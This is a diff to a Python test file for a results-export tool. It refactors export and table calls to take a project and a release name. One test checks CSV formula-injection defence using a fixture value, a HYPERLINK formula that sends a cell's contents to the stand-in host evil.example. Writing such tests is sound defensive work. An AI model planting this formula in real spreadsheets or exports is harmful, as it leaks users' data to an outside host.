@@ -12,6 +12,7 @@ from typing import Any
 import pytest
 from click.testing import CliRunner
 
+from cellgauge.cards.project import Project
 from cellgauge.cli import main
 from cellgauge.exchange.table import export_table, long_table
 from cellgauge.results.release import Release
@@ -35,9 +36,13 @@ def release(tmp_path: Path, values: dict[str, Any], replicates: bytes) -> Path:
     return folder
 
 
+def project_of(release: Path) -> Project:
+    return Project(release.parents[1], release.parents[1])
+
+
 def test_every_score_and_every_empty_has_its_row(release: Path) -> None:
     results = list(read_results(release))
-    rows = long_table(release)
+    rows = long_table(project_of(release), release.name)
     assert len(rows) == sum(max(1, len(result.scores)) for result in results)
     scores = iter(rows)
     for result in results:
@@ -51,8 +56,10 @@ def test_every_score_and_every_empty_has_its_row(release: Path) -> None:
 
 def test_all_formats_say_the_same(release: Path, tmp_path: Path) -> None:
     parquet = pytest.importorskip("pyarrow.parquet", reason="needs pyarrow: pip install 'cellgauge[export]'")
-    expected = long_table(release)
-    paths = {kind: export_table(release, kind, tmp_path)[0] for kind in ("csv", "json", "parquet")}
+    expected = long_table(project_of(release), release.name)
+    paths = {
+        kind: export_table(project_of(release), release.name, kind, tmp_path)[0] for kind in ("csv", "json", "parquet")
+    }
     assert json.loads(paths["json"].read_text()) == expected
     assert parquet.read_table(paths["parquet"]).to_pylist() == expected
     with paths["csv"].open(newline="") as file:
@@ -74,17 +81,17 @@ def test_no_reason_that_a_program_gave_is_run_by_a_spreadsheet(
     reason = f'{mark}HYPERLINK("http://evil.example/"&A1)'
     empty = {"status": "failed", "reason": reason, "scores": [], "replicates": None, "resources": None}
     write_result(release, seal({**values, **empty, "model": {**values["model"], "id": "nmf"}}), None)
-    wanted = long_table(release)
+    wanted = long_table(project_of(release), release.name)
     assert [row["reason"] for row in wanted if row["model"] == "nmf"] == [reason]
-    with export_table(release, "csv", tmp_path)[0].open(newline="") as file:
+    with export_table(project_of(release), release.name, "csv", tmp_path)[0].open(newline="") as file:
         read = list(csv.DictReader(file))
     assert [row["reason"] for row in read if row["model"] == "nmf"] == [f"'{reason}"]
     assert not [cell for row in read for cell in row.values() if cell.startswith(mark)]
-    assert json.loads(export_table(release, "json", tmp_path)[0].read_bytes()) == wanted
+    assert json.loads(export_table(project_of(release), release.name, "json", tmp_path)[0].read_bytes()) == wanted
 
 
 def test_a_score_below_zero_stays_a_number_in_csv(release: Path) -> None:
-    row = {**long_table(release)[0], "value": -0.25, "low": -1e-05, "n_units": -3}
+    row = {**long_table(project_of(release), release.name)[0], "value": -0.25, "low": -1e-05, "n_units": -3}
     (read,) = csv.DictReader(io.StringIO(table_csv([row]).decode()))
     assert (read["value"], read["low"], read["n_units"]) == ("-0.25", "-1e-05", "-3")
 
